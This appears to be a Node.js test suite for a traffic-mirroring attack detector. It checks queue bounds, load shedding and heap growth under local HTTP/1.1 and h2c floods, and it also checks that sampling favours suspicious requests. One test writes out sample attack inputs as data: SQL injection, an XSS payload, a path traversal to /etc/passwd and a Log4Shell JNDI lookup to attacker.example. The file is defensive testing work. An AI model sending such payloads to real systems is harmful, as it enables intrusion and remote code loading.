import assert from 'node:assert/strict';
import http from 'node:http';
import http2 from 'node:http2';
import net from 'node:net';
import { describe, it } from 'node:test';
import v8 from 'node:v8';
import vm from 'node:vm';
import { hasCheapSignal } from '../src/admission/cheap-signals.js';
import { createAdmission } from '../src/admission/admission-queue.js';
import { decodeBatch } from '../src/admission/batch-codec.js';
import type { DetectPool } from '../src/admission/detect-pool.js';
import { resolveConfig } from '../src/config/config.js';
import { silentLogger } from '../src/core/logger.js';
import { createCoreMetrics } from '../src/core/metrics.js';
import type { CapturedExchange } from '../src/core/model.js';
import type { Shadowtap } from '../src/server.js';
import { loadMix } from '../bench/load-mix.js';
import { capturedExchange } from './helpers/exchange.js';
import { metricValue, startTestServer } from './helpers/start-server.js';

// A forced full GC makes the heap comparison meaningful (the test runner has no --expose-gc).
v8.setFlagsFromString('--expose-gc');
const gc = vm.runInNewContext('gc') as () => void;

function settledHeap(): number {
  for (let i = 0; i < 3; i++) gc();
  return process.memoryUsage().heapUsed;
}

/** Runs `count` jobs with at most `concurrency` in flight; collects the results. */
async function pool<T>(count: number, concurrency: number, job: (i: number) => Promise<T>): Promise<T[]> {
  const out: T[] = new Array<T>(count);
  let next = 0;
  const worker = async (): Promise<void> => {
    while (next < count) {
      const i = next++;
      out[i] = await job(i);
    }
  };
  await Promise.all(Array.from({ length: concurrency }, worker));
  return out;
}

function h1(agent: http.Agent, port: number, i: number, bodyBytes: number): Promise<number> {
  return new Promise((resolve, reject) => {
    const post = i % 3 !== 0;
    const req = http.request(
      {
        host: '127.0.0.1',
        port,
        agent,
        method: post ? 'POST' : 'GET',
        path: `/api/items?page=${i}&sort=name`,
        headers: post ? { 'content-type': 'application/octet-stream', 'content-length': bodyBytes } : {},
      },
      (res) => {
        res.resume();
        res.on('end', () => resolve(res.statusCode ?? 0));
      },
    );
    req.on('error', reject);
    req.end(post ? Buffer.alloc(bodyBytes, 0x61) : undefined);
  });
}

async function h2Flood(port: number, streams: number): Promise<number[]> {
  const session = http2.connect(`http://127.0.0.1:${port}`);
  try {
    return await pool(streams, 50, (i) => {
      return new Promise<number>((resolve, reject) => {
        const req = session.request({
          ':method': 'POST',
          ':path': `/h2/upload?i=${i}`,
          'content-type': 'application/json',
        });
        let status = 0;
        req.on('response', (h) => (status = Number(h[':status'])));
        req.resume();
        req.on('end', () => resolve(status));
        req.on('error', reject);
        req.end(JSON.stringify({ i, data: 'b'.repeat(4000) }));
      });
    });
  } finally {
    session.close();
  }
}

/** A client that announces a body and disappears half-way (a reset mirror copy). */
function truncated(port: number): Promise<void> {
  return new Promise((resolve) => {
    const socket = net.connect(port, '127.0.0.1', () => {
      socket.write('POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\n' + 'x'.repeat(500), () => {
        setTimeout(() => socket.destroy(), 5);
      });
    });
    socket.on('error', () => undefined);
    socket.on('close', () => resolve());
  });
}

function malformed(port: number): Promise<void> {
  return new Promise((resolve) => {
    const socket = net.connect(port, '127.0.0.1', () => socket.write('NOT HTTP AT ALL\r\n\r\n'));
    socket.resume();
    socket.on('error', () => undefined);
    socket.on('close', () => resolve());
  });
}

interface Accounting {
  received: number;
  analyzed: number;
  shed: number;
  rejected: number;
}

async function accounting(app: Shadowtap): Promise<Accounting> {
  return {
    received: await metricValue(app, 'shadowtap_received_total'),
    analyzed: await metricValue(app, 'shadowtap_analyzed_total'),
    shed: await metricValue(app, 'shadowtap_shed_total'),
    rejected: await metricValue(app, 'shadowtap_rejected_total'),
  };
}

/** Waits until the queue drained and every received request is analysed, shed or rejected. */
async function drained(app: Shadowtap, expectedReceived: number): Promise<Accounting> {
  const start = Date.now();
  for (;;) {
    const m = await accounting(app);
    if (m.received >= expectedReceived && m.analyzed + m.shed + m.rejected >= m.received && app.admission.depth() === 0)
      return m;
    if (Date.now() - start > 15000) return m;
    await new Promise((r) => setTimeout(r, 20));
  }
}

/** Samples the admission depth on every turn of the event loop while `work` runs. */
async function watchDepth<T>(app: Shadowtap, work: Promise<T>): Promise<{ result: T; maxDepth: number }> {
  let maxDepth = 0;
  let running = true;
  const sample = (): void => {
    maxDepth = Math.max(maxDepth, app.admission.depth());
    if (running) setImmediate(sample);
  };
  sample();
  try {
    return { result: await work, maxDepth };
  } finally {
    running = false;
  }
}

describe('overload: the shadow listener keeps answering and every request is accounted for', () => {
  it('HTTP/1.1 + h2c flood, aborted and malformed requests: all 204, bounded queue and heap, exact accounting', async () => {
    const queueSize = 32;
    const app = await startTestServer({ admission: { workers: 1, queueSize, batchSize: 8, batchWindowMs: 1 } });
    const agent = new http.Agent({ keepAlive: true, maxSockets: 64 });
    try {
      // Warm-up so that lazily allocated state (JIT, pools, agent sockets) is in the baseline.
      await pool(300, 32, (i) => h1(agent, app.ports.shadow, i, 16 * 1024));
      const warm = await drained(app, 300);
      const baseline = settledHeap();

      const h1Count = 3000;
      const h2Count = 400;
      const aborted = 20;
      const bad = 10;
      const bodyBytes = 16 * 1024;
      const { result, maxDepth } = await watchDepth(
        app,
        Promise.all([
          pool(h1Count, 64, (i) => h1(agent, app.ports.shadow, i, bodyBytes)),
          h2Flood(app.ports.shadow, h2Count),
          pool(aborted, 5, () => truncated(app.ports.shadow)),
          pool(bad, 2, () => malformed(app.ports.shadow)),
        ]),
      );
      const [h1Statuses, h2Statuses] = result;
      assert.ok(
        h1Statuses.every((s) => s === 204),
        `HTTP/1.1 statuses: ${[...new Set(h1Statuses)].join(',')}`,
      );
      assert.ok(
        h2Statuses.every((s) => s === 204),
        `h2c statuses: ${[...new Set(h2Statuses)].join(',')}`,
      );
      assert.ok(maxDepth <= queueSize, `admission depth ${maxDepth} stayed within queueSize ${queueSize}`);
      assert.ok(maxDepth > 0, 'the flood did queue work');

      const offered = h1Count + h2Count + aborted + bad;
      const m = await drained(app, warm.received + offered);
      assert.equal(
        m.received,
        warm.received + offered,
        'every request, aborted and malformed ones included, was received',
      );
      assert.equal(
        m.analyzed + m.shed + m.rejected,
        m.received,
        `received = analyzed + shed + rejected: ${JSON.stringify(m)}`,
      );
      assert.equal(m.rejected, bad);
      assert.ok(m.shed > 0, 'over capacity, admission shed');
      assert.equal(await metricValue(app, 'shadowtap_shed_total', { reason: 'queue_full' }), m.shed);

      // ~56 MB of bodies went through; none of it may stay reachable once the queue drained.
      const growth = settledHeap() - baseline;
      assert.ok(growth < 16 * 1024 * 1024, `heap grew by ${(growth / 2 ** 20).toFixed(1)} MiB after the flood`);
    } finally {
      agent.destroy();
      await app.close();
    }
  });

  it('overloadSampleRate > 1 keeps 1 in N under pressure and sheds the rest as sampled_out', async () => {
    const app = await startTestServer({
      admission: { workers: 1, queueSize: 16, batchSize: 1, batchWindowMs: 0, overloadSampleRate: 4 },
    });
    const agent = new http.Agent({ keepAlive: true, maxSockets: 64 });
    try {
      const n = 1500;
      const statuses = await pool(n, 64, (i) => h1(agent, app.ports.shadow, i, 4096));
      assert.ok(statuses.every((s) => s === 204));
      const m = await drained(app, n);
      assert.equal(m.received, n);
      assert.equal(m.analyzed + m.shed + m.rejected, n);
      const sampledOut = await metricValue(app, 'shadowtap_shed_total', { reason: 'sampled_out' });
      assert.ok(sampledOut > 0, `sampled_out ${sampledOut}`);
    } finally {
      agent.destroy();
      await app.close();
    }
  });
});

function exchange(id: string, target: string, body = '', headers: Array<[string, string]> = []): CapturedExchange {
  return capturedExchange({ id, source: 'mirror', clientIp: '127.0.0.1', target, headers, body });
}

/** A pool that takes one batch and never finishes it: the queue only fills, deterministically. */
function stuckPool(): DetectPool {
  return {
    threads: 1,
    capacity: 1,
    run: (batch) => {
      decodeBatch(batch);
      return new Promise(() => undefined);
    },
    utilization: () => 1,
    close: async () => undefined,
  };
}

describe('admission is bounded in bytes as well as in entries', () => {
  it('sheds as queue_full once queued bodies would pass maxQueuedBytes', async () => {
    const metrics = createCoreMetrics();
    const admission = createAdmission({
      config: { ...resolveConfig().admission, queueSize: 100, maxQueuedBytes: 10_000, batchSize: 1, batchWindowMs: 0 },
      pool: stuckPool(),
      metrics,
      logger: silentLogger(),
      onResult: () => undefined,
    });
    const body = 'x'.repeat(1000);
    const accepted = Array.from(
      { length: 20 },
      (_, i) => admission.submit(exchange(`b${i}`, '/upload', body)).accepted,
    );
    // One batch is in the pool; ten 1000-byte bodies fill the 10 000-byte budget.
    assert.deepEqual(accepted, [...Array<boolean>(11).fill(true), ...Array<boolean>(9).fill(false)]);
    assert.equal(admission.depth(), 10);
    assert.equal(
      await metrics.shed.get().then((m) => m.values.find((v) => v.labels.reason === 'queue_full')?.value),
      9,
    );
    // Small requests still fit while big ones do not.
    assert.equal(admission.submit(exchange('small', '/products?page=1')).accepted, true);
  });
});

describe('sampling prefers requests with cheap suspicious signals', () => {
  it('flags every attack of the benchmark mix and none of its benign requests', () => {
    const mix = loadMix({ host: 'shop.example.com', count: 400, seed: 42 });
    const flagged = (kind: (k: string) => boolean) =>
      mix
        .filter((r) => kind(r.kind))
        .map((r, i) => hasCheapSignal(exchange(String(i), r.path, r.body ?? '', Object.entries(r.headers))));
    const attacks = flagged((k) => k.startsWith('attack:'));
    const benign = flagged((k) => !k.startsWith('attack:'));
    assert.equal(attacks.length, 20);
    assert.deepEqual(attacks.filter((f) => !f).length, 0, 'every attack carries a cheap signal');
    assert.equal(benign.filter(Boolean).length, 0, 'no benign request of the mix does');
  });

  it('under pressure, suspicious requests are admitted while 3 in 4 benign ones are sampled out', async () => {
    const pool = stuckPool();
    const metrics = createCoreMetrics();
    const admission = createAdmission({
      config: { ...resolveConfig().admission, queueSize: 100, batchSize: 1, batchWindowMs: 0, overloadSampleRate: 4 },
      pool,
      metrics,
      logger: silentLogger(),
      onResult: () => undefined,
    });
    // One exchange goes to the (stuck) pool, 75 fill the queue up to the sampling threshold.
    for (let i = 0; i < 76; i++) assert.ok(admission.submit(exchange(`fill${i}`, `/products?page=${i}`)).accepted);
    const attacks = [
      exchange('sqli', `/search?q=${encodeURIComponent("x' OR 1=1--")}`),
      exchange('xss', '/api/reviews', JSON.stringify({ text: '<img src=x onerror=alert(1)>' })),
      exchange('traversal', '/files?path=..%2F..%2Fetc%2Fpasswd'),
      exchange('log4shell', '/', '', [['x-api-version', '${jndi:ldap://attacker.example/a}']]),
      exchange('sqli-form', '/login', "user=admin'--&password=x"),
    ];
    const outcomes = new Map<string, boolean>();
    for (let i = 0; i < 20; i++) {
      const benign = exchange(
        `benign${i}`,
        `/products?category=shoes&page=${i}`,
        JSON.stringify({ note: 'leave at door' }),
      );
      outcomes.set(benign.id, admission.submit(benign).accepted);
      if (i % 4 === 3) {
        const attack = attacks[(i - 3) / 4]!;
        outcomes.set(attack.id, admission.submit(attack).accepted);
      }
    }
    assert.deepEqual(
      attacks.map((a) => outcomes.get(a.id)),
      attacks.map(() => true),
      'every suspicious request admitted',
    );
    const benignKept = [...outcomes].filter(([id, ok]) => id.startsWith('benign') && ok).length;
    assert.equal(benignKept, 5, '1 in 4 benign requests kept');
    const { values } = await metrics.shed.get();
    assert.deepEqual(
      values.map((v) => [v.labels.reason, v.value]),
      [['sampled_out', 15]],
    );
  });
});
